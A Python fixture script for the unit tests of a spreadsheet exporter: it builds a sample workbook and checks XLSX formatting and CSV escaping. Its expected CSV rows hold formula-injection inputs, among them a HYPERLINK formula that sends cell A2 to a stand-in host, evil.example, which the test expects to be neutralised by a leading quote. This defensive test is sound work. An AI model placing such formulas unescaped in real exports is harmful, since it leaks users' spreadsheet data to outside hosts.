#!/usr/bin/env python3
"""tabular_fixtures.py — the Python half of the tabular unit tests, run by
test_tabular.c and test_xlsx_read.c (meson sets TABULAR_FIXTURES to this file):

  make-openpyxl FILE  write a workbook the way openpyxl does (test_xlsx_read.c reads it)
  check-xlsx FILE     open renda's typed workbook in openpyxl and check what a user of
                      Excel would see: real dates, real numbers, a frozen bold header,
                      the drop-down lists and the second sheet
  check-csv FILE      read renda's CSV with Python's csv module (which knows nothing of
                      the formula rule) and find the leading quotes

Exits 77 (the test is skipped) when openpyxl is missing, 1 with a message on failure."""

import csv
import datetime
import sys

try:
    import openpyxl
except ImportError:
    sys.exit(77)


def make_openpyxl(path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "代表名单"
    ws.append(["姓名", "出生日期", "人数", "金额", "是否连任", "备注", "登记时间"])
    ws.append(["张伟", datetime.date(1968, 5, 4), 12, 9.95, True, None,
               datetime.datetime(2024, 3, 1, 8, 30)])
    ws.append(["欧阳明华", datetime.date(2000, 2, 29), -3, 1234567.89, False, "多行\n备注",
               datetime.datetime(2024, 3, 1)])
    ws["A5"] = "稀疏"  # row 4 left out
    ws["B5"] = datetime.date(2024, 12, 31)
    ws["B5"].number_format = 'yyyy"年"m"月"d"日"'
    ws["G5"] = datetime.time(12, 0)
    ws["A6"] = "合并单元格"
    ws.merge_cells("A6:C6")
    ws["D6"] = "=1+2"  # a formula: openpyxl saves it without a computed value
    ws["E6"].value = "=not a formula"
    ws["E6"].data_type = "s"
    wb.create_sheet("第二页")["A1"] = "不读"
    wb.save(path)


def check(cond, what):
    if not cond:
        print(f"tabular_fixtures: {what}", file=sys.stderr)
        sys.exit(1)


def check_xlsx(path):
    wb = openpyxl.load_workbook(path)
    check(wb.sheetnames == ["数据", "可选值"], f"sheets {wb.sheetnames}")
    ws = wb["数据"]
    check(ws.freeze_panes == "A2", f"freeze panes {ws.freeze_panes}")
    check(ws["A1"].value == "文本" and ws["A1"].font.b, "the header is not bold text")
    check(ws["B2"].value == 993 and ws["B2"].data_type == "n", f"B2 {ws['B2'].value!r}")
    check(ws["C2"].value == 0.07 and ws["C2"].number_format == "0.00", f"C2 {ws['C2'].value!r}")
    check(ws["C3"].value == 99999999.99, f"C3 {ws['C3'].value!r}")
    check(ws["D2"].is_date and ws["D2"].value == datetime.datetime(2024, 2, 29),
          f"D2 {ws['D2'].value!r} is not the date 2024-02-29")
    check(ws["D2"].number_format == "yyyy-mm-dd", f"D2 format {ws['D2'].number_format}")
    check(ws["E2"].value == "是" and ws["E3"].value == "否", "booleans are not 是/否")
    check(ws["G2"].value == "1234567890123456789", f"G2 {ws['G2'].value!r}")
    check(ws["H2"].value == "-5" and ws["H2"].data_type == "s", f"H2 {ws['H2'].value!r}")
    check(ws["A3"].value == "=1+1" and ws["A3"].data_type == "s", f"A3 {ws['A3'].data_type}")
    check(ws.column_dimensions["A"].width >= 14, "column A is too narrow for 县人大常委会")
    lists = {str(dv.sqref): dv.formula1 for dv in ws.data_validations.dataValidation}
    check(lists.get("E2:E1048576") == '"是,否"', f"lists {lists}")
    check(lists.get("A2:A1048576") == "'可选值'!$A$2:$A$4", f"lists {lists}")
    check([c.value for c in wb["可选值"]["A"]] == ["文本可选值", "甲", "乙", "丙"],
          "the second sheet")


FORMULA = ["'=HYPERLINK(\"http://evil.example/\"&A2,\"详情\")", "'+1", "'-1", "'@SUM(1)",
           "'\tTAB 开头", "'\rCR 开头", "''=already quoted", "'''+two quotes",
           "'just a quote", "'", "普通 = 文本", "1-2", "", "-1", "-2.50"]


def check_csv(path):
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    check(rows == [FORMULA, FORMULA], f"CSV rows {rows!r}")


if __name__ == "__main__":
    {"make-openpyxl": make_openpyxl, "check-xlsx": check_xlsx,
     "check-csv": check_csv}[sys.argv[1]](sys.argv[2])
